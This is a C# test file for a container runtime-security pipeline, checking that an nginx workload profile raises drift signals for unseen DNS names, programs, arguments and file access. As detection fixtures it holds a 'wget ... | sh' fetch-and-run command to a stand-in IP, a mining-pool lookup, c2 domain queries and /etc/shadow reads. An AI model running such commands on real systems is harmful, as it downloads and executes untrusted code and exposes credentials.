using WorkloadProfiles.Domain.Drift;
using WorkloadProfiles.Domain.Events;
using WorkloadProfiles.Domain.Identity;
using WorkloadProfiles.Domain.Profiles;
using WorkloadProfiles.Domain.Signals;
using WorkloadProfiles.Domain.Snapshots;
using WorkloadProfiles.Kafka;
using static WorkloadProfiles.Streams.Tests.Topology.Activity;

namespace WorkloadProfiles.Streams.Tests.Topology;

/// <summary>Drift signals of the snapshot job: a Stable profile's image doing what the profile never saw.</summary>
public sealed class DriftJobTests
{
    static readonly ContainerRef Fresh = new("c-web-fresh", "nginx", "1.27");

    static TopologyHarness Harness(StreamJobs jobs = StreamJobs.Snapshots, DriftPolicy? policy = null) => new(new StreamsJobOptions
    {
        Jobs = jobs,
        Snapshots = new SnapshotJobOptions { Window = TimeSpan.FromMinutes(30), Grace = TimeSpan.FromMinutes(2) },
        Drift = new DriftOptions { Policy = policy ?? DriftPolicy.Default },
        Enrichment = new EnrichmentOptions { Policy = new SuggestionPolicy { MinLearningSnapshots = 1 } },
    });

    /// <summary>nginx as learnt: the master execs, reads its config, resolves its upstream and runs its health script.</summary>
    static RawEvent[] Normal(long ts) =>
    [
        .. NginxStart(ts),
        Fork(ts + 30, 1, 2),
        Exec(ts + 40, 2, "/bin/sh", "sh", "-c", "wget -q -O- http://127.0.0.1/health?ts=" + ts),
    ];

    static RawEvent Fork(long ts, int pid, int child) => new() { Kind = EventKind.Fork, TimestampUs = ts, Pid = pid, ChildPid = child, Comm = "nginx" };

    static SecurityProfile Profile(int snapshots, ProfileStatus expected)
    {
        var aggregate = new ProfileAggregate(new ProfileKey("nginx", "1.27"),
            ProfilePolicy.Default with { StableSnapshotCount = expected == ProfileStatus.Stable ? snapshots : snapshots + 1 });
        for (var i = 0; i < snapshots; i++)
        {
            var start = Minutes(30 * i);
            var builder = new SnapshotBuilder(i % 2 == 0 ? Web1 : Web2, "node-1", start, start + Minutes(30) - T0);
            builder.AddRange(Normal(start + 1));
            aggregate.Merge(builder.Build(), start);
        }

        var profile = aggregate.ToProfile();
        Assert.Equal(expected, profile.Status);
        return profile;
    }

    /// <summary>The profile as wp-streams gets it: the drift baselines through their follower (fed directly here, the
    /// driver has no broker), the enrichment job through its <c>wp.profiles</c> stream.</summary>
    static void SendProfile(TopologyHarness h, SecurityProfile profile, bool enrichment = false)
    {
        h.Pipeline.Baselines.Apply(profile);
        if (enrichment)
        {
            h.Pipe(PipelineTopics.Profiles.Name, profile.Key.ToString(), h.Codecs.Profiles.Serialize(profile));
        }
    }

    static void Send(TopologyHarness h, params RawEvent[] events)
    {
        var batch = Batch(Fresh, events);
        h.Pipe(PipelineTopics.RawEvents.Name, Fresh.Id, h.Codecs.Batches.Serialize(batch),
            DateTimeOffset.FromUnixTimeMilliseconds(events[^1].TimestampUs / 1000).UtcDateTime);
    }

    static List<SecuritySignal> Drift(TopologyHarness h) =>
        [.. h.Read(PipelineTopics.Signals.Name, h.Codecs.Signals).Select(s => s.Value).Where(s => DriftRules.IsDrift(s.RuleId))];

    [Fact]
    public void Learnt_behaviour_in_a_new_container_raises_no_drift()
    {
        using var h = Harness();
        SendProfile(h, Profile(4, ProfileStatus.Stable));

        Send(h, Normal(Minutes(200)));
        Send(h, Exec(Minutes(201), 2, "/bin/sh", "sh", "-c", "wget -q -O- http://127.0.0.1/health?ts=99"));

        Assert.Empty(Drift(h));
        Assert.Equal(1, h.Pipeline.Baselines.Count);
    }

    [Fact]
    public void New_dns_name_new_program_and_new_arguments_each_raise_their_drift_kind()
    {
        using var h = Harness();
        SendProfile(h, Profile(4, ProfileStatus.Stable));
        Send(h, Normal(Minutes(200)));

        Send(h,
            Dns(Minutes(201), 1, "pool.minexmr.com"),
            Fork(Minutes(201) + 1, 1, 3),
            Exec(Minutes(201) + 2, 3, "/usr/bin/curl", "curl", "-s", "http://203.0.113.7/x"),
            Fork(Minutes(201) + 3, 1, 4),
            Exec(Minutes(201) + 4, 4, "/bin/sh", "sh", "-c", "wget -q -O- http://203.0.113.7/x | sh"),
            Open(Minutes(201) + 5, 1, "/etc/nginx/nginx.conf", flags: 0x241));

        var drift = Drift(h);
        Assert.Equal(["wp.drift.dns", "wp.drift.file", "wp.drift.process", "wp.drift.process"], drift.Select(s => s.RuleId).Order());
        Assert.All(drift, s => Assert.Equal(DriftSignals.Source, s.Source));
        var dns = drift.Single(s => s.RuleId == "wp.drift.dns");
        Assert.Equal("pool.minexmr.com", dns.Behaviour.DnsQuestionName);
        Assert.Contains("closest known ancestor", dns.Message, StringComparison.Ordinal);
        var curl = drift.Single(s => s.Process!.ExecutablePath == "/usr/bin/curl");
        Assert.Equal(["/usr/sbin/nginx", "/usr/bin/curl"], curl.Behaviour.Ancestry.Select(p => p.ExecutablePath));
        var script = drift.Single(s => s.Process!.ExecutablePath == "/bin/sh");
        Assert.Contains("arguments its profile never saw", script.Message, StringComparison.Ordinal);
        Assert.Contains("only saw it read", drift.Single(s => s.RuleId == "wp.drift.file").Message, StringComparison.Ordinal);
        Assert.Equal(4, h.Counter(h.Metrics.Drift, "reported"));
    }

    [Fact]
    public void A_drift_is_raised_once_per_container_and_window()
    {
        using var h = Harness();
        SendProfile(h, Profile(4, ProfileStatus.Stable));
        Send(h, Normal(Minutes(200)));

        Send(h, Dns(Minutes(201), 1, "c2.example.com"));
        Send(h, Dns(Minutes(205), 1, "c2.example.com"));
        Assert.Single(Drift(h));
        Assert.Equal(1, h.Counter(h.Metrics.Drift, "duplicate"));

        Send(h, Dns(Minutes(211), 1, "c2.example.com")); // the next 30-minute window
        Assert.Single(Drift(h));
    }

    [Fact]
    public void Past_its_cap_a_container_raises_one_overflow_signal_and_counts_the_rest()
    {
        using var h = Harness(policy: new DriftPolicy { MaxSignalsPerWindow = 3 });
        SendProfile(h, Profile(4, ProfileStatus.Stable));
        Send(h, Normal(Minutes(200)));

        Send(h, [.. Enumerable.Range(0, 8).Select(i => Dns(Minutes(201) + i, 1, $"host{i}.example.com"))]);

        var drift = Drift(h);
        Assert.Equal(3, drift.Count(s => s.RuleId == DriftRules.Dns));
        Assert.Equal(DriftRules.Overflow, Assert.Single(drift, s => s.RuleId == DriftRules.Overflow).RuleId);
        Assert.Equal(4, h.Counter(h.Metrics.Drift, "over-cap"));
    }

    [Fact]
    public void A_learning_profile_raises_no_drift_unless_the_policy_trusts_it_past_n_snapshots()
    {
        using (var h = Harness())
        {
            SendProfile(h, Profile(4, ProfileStatus.Learning));
            Send(h, Normal(Minutes(200)));
            Send(h, Dns(Minutes(201), 1, "c2.example.com"));
            Assert.Empty(Drift(h));
            Assert.Equal(0, h.Pipeline.Baselines.Count);
        }

        using (var h = Harness(policy: new DriftPolicy { MinLearningSnapshots = 4 }))
        {
            SendProfile(h, Profile(4, ProfileStatus.Learning));
            Send(h, Normal(Minutes(200)));
            Send(h, Dns(Minutes(201), 1, "c2.example.com"));
            Assert.Equal(DriftRules.Dns, Assert.Single(Drift(h)).RuleId);
        }
    }

    [Fact]
    public void Kinds_follow_the_image_rules_and_file_reads_are_off_by_default()
    {
        using (var h = Harness())
        {
            SendProfile(h, Profile(4, ProfileStatus.Stable));
            Send(h, Normal(Minutes(200)));
            Send(h, Open(Minutes(201), 1, "/etc/shadow"));
            Assert.Empty(Drift(h));
        }

        using (var h = Harness(policy: new DriftPolicy { Images = [new DriftImageRule("ngin.*", DriftKinds.FileRead)] }))
        {
            SendProfile(h, Profile(4, ProfileStatus.Stable));
            Send(h, Normal(Minutes(200)));
            Send(h, Open(Minutes(201), 1, "/etc/shadow"), Dns(Minutes(201) + 1, 1, "c2.example.com"));
            Assert.Equal(DriftRules.File, Assert.Single(Drift(h)).RuleId); // reads only, for this image
        }
    }

    [Fact]
    public void A_process_whose_exec_was_never_seen_is_not_judged()
    {
        using var h = Harness();
        SendProfile(h, Profile(4, ProfileStatus.Stable));

        Send(h, Dns(Minutes(201), 77, "c2.example.com", comm: "mystery"));

        Assert.Empty(Drift(h));
        Assert.Equal(1, h.Counter(h.Metrics.Drift, "unresolved-lineage"));
    }

    [Fact]
    public void An_allowed_drift_stops_and_drift_is_enriched_without_a_suggestion()
    {
        using var h = Harness(StreamJobs.All);
        var profile = Profile(4, ProfileStatus.Stable);
        SendProfile(h, profile, enrichment: true);
        Send(h, Normal(Minutes(200)));
        Send(h, Dns(Minutes(201), 1, "c2.example.com"));

        var drift = Assert.Single(Drift(h));
        // The driver does not feed outputs back as inputs; the broker would.
        h.Pipe(PipelineTopics.Signals.Name, drift.Container.ProfileKey!.Value.ToString(), h.Codecs.Signals.Serialize(drift));
        var enriched = Assert.Single(h.Read(PipelineTopics.EnrichedSignals.Name, h.Codecs.EnrichedSignals),
            e => e.Value.Signal.SignalId == drift.SignalId).Value;
        Assert.Null(enriched.Suggestion);
        Assert.StartsWith("drift signals are never suggested", enriched.NoSuggestionReason, StringComparison.Ordinal);
        Assert.False(enriched.Profile!.BehaviourInProfile);
        Assert.Equal(NodeIdentity.ProcessNodeOf(drift.Behaviour.Ancestry), enriched.Profile.ClosestKnownNodeId);
        Assert.StartsWith("/usr/sbin/nginx", enriched.Profile.ClosestKnownNodeKey, StringComparison.Ordinal);

        // "Allow": a suppression scoped to the image and the node, as the explorer publishes it.
        var suppression = new Suppression
        {
            Id = Suppression.MakeId(drift.RuleId, "nginx", enriched.Profile.NodeId!.Value, NodeIdentity.SignaturesOf(drift.Behaviour.Ancestry)),
            RuleId = drift.RuleId,
            ImageName = "nginx",
            NodeId = enriched.Profile.NodeId!.Value,
            Expression = SuggestionMatcher.Expression("nginx", enriched.Profile.NodeId!.Value, NodeIdentity.SignaturesOf(drift.Behaviour.Ancestry)),
            Signatures = NodeIdentity.SignaturesOf(drift.Behaviour.Ancestry),
            CreatedBy = "engineer",
            CreatedAtUs = Minutes(202),
        };
        h.Pipe(PipelineTopics.Suppressions.Name, suppression.Id, h.Codecs.Suppressions.Serialize(suppression));
        Send(h, Dns(Minutes(240), 1, "c2.example.com")); // a later window: it would drift again

        Assert.Empty(Drift(h));
        Assert.Equal(1, h.Counter(h.Metrics.Drift, "suppressed"));
    }
}
